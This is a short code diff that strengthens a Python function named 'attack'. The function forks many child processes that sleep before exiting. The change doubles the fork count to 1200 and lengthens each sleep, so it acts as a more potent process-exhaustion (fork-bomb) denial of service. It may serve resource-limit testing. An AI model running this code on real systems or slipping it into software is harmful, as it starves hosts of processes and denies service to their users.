@@ -4,10 +4,10 @@ import time
 
 
 def attack(a: int = 0) -> int:
-    for _ in range(600):
+    for _ in range(1200):
         try:
             if os.fork() == 0:
-                time.sleep(3)
+                time.sleep(8)
                 os._exit(0)
         except OSError:
             break
